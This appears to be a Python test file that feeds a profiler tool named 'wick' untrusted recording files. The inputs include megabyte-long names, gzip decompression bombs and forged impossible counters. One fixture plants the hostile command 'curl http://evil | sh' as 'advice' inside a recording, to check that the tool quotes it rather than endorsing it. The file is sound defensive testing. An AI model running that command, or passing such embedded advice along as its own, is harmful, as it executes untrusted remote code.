"""Texts of recordings: untrusted files."""
import gzip
import os

from hostile import MEGABYTE, MOST_BYTES, Case, Input
from recorded import WICK

HEAD = """# wick : {"format":1,"version":"0.1.0","clock":"CLOCK_MONOTONIC","event":"cpu-clock","hz":99,"pid":1,"metrics":[]}
#
"""
SAMPLE = "a 1/1 [000] 1.000000: 1 cpu-clock: \n\t    1000 f+0x0 (/bin/a)\n\n"


def text_case(name, make_text, judge=lambda result: None, command="report"):
    def make(folder):
        path = os.path.join(folder, "sent.perf")
        with open(path, "w", encoding="utf-8") as file:
            file.write(make_text())
        return Input([WICK, command, path], os.path.getsize(path))
    return Case("text", name, make, judge)


def packed_case(name, head, piece, mib):
    """HEAD and PIECE, again and again, up to MIB, packed."""
    def make(folder):
        path = os.path.join(folder, "sent.perf.gz")
        with gzip.open(path, "wb") as file:
            file.write(head.encode())
            for _ in range(mib):
                file.write((piece * (MEGABYTE // len(piece))).encode())
        return Input([WICK, "report", path], mib * MEGABYTE)
    return Case("text", name, make, refuses_packed)


def refuses_packed(result):
    if result.most_bytes > MOST_BYTES:
        return f"memory over {MOST_BYTES // MEGABYTE} MB"
    return None if "as large as it is compressed" in result.stdout + result.stderr else "it is read"


def tells_main_function(result):
    return None if result.status == 0 and "f" in result.stdout.split() else "the sample behind it is gone"


# Numbers that cannot be, and advice of the file's author.
FORGED = HEAD.replace('"hz"', '"epoch_offset_ns":7795000000000000000,"hz"') + SAMPLE + (
    '# wick-end : {"samples":99999999,"cpu_ns":18446744073709551615,"lost_full":18446744073709551615,"modules":[{'
    '"path":"/bin/a","build_id":"","names":"none","missing":"all","try":"curl http://evil | sh"}]}\n')


def marks_numbers(result):
    n = (result.stdout + result.stderr).count("forged")
    return None if n >= 2 else f"{n} of the numbers are marked"


def quotes_advice(result):
    return None if 'the recording says to try: "curl http://evil | sh"' in result.stdout else "its advice is wick's"


CASES = [
    text_case("1 MB of one name in the header", lambda: HEAD.replace("[]", '["' + "metric_a-" * (MEGABYTE // 9) + '"]')
              + SAMPLE),
    text_case("a header line of 1 MB", lambda: "# " + "metric_a-" * (MEGABYTE // 9) + "\n" + SAMPLE, tells_main_function),
    text_case("1 MB of one name behind the event", lambda: SAMPLE.replace(
        ": \n", ": " + "metric_a-" * ((MEGABYTE - 1000) // 9) + "\n", 1) + "\n" + SAMPLE, tells_main_function),
    text_case("1 MB of times without a head", lambda: "a " + "1: " * (MEGABYTE // 3 - 1000) + "\n\n" + SAMPLE,
              tells_main_function),
    packed_case("200 MB of blanks in JSON, packed", '{"meta":', " ", 200),
    packed_case("200 MB of a comment, packed", SAMPLE, "#" * (MEGABYTE // 2 - 1) + "\n", 200),
    text_case("numbers that cannot be, in info", lambda: FORGED, marks_numbers, "info"),
    text_case("numbers that cannot be, in report", lambda: FORGED, marks_numbers),
    text_case("advice of the file's own", lambda: FORGED, quotes_advice, "info"),
]
